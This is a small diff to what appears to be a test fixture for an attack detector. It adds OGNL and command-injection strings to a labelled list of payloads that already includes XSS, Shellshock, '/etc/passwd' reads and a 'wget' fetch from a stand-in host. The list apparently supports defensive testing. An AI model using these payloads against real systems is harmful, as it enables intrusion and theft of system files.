@@ -36,6 +36,8 @@ ATTACKS = [
     (b"';alert(1);//", "js.dialog_call"),
     (b"+ADw-script+AD4-alert(1)", "html.script_tag"),
     (b"; cat /etc/passwd", "shell.command_after_separator"),
+    (b"; id", "shell.runs_command"),
+    (b"#_memberAccess['allowStaticMethodAccess']=true", "template.runs_code"),
     (b"$(wget http://x.example/a)", "shell.substitution"),
     (b"a|c'a't${IFS}/etc/passwd", "shell.command_with_target"),
     (b"() { :;}; /bin/bash -c id", "shell.shellshock"),
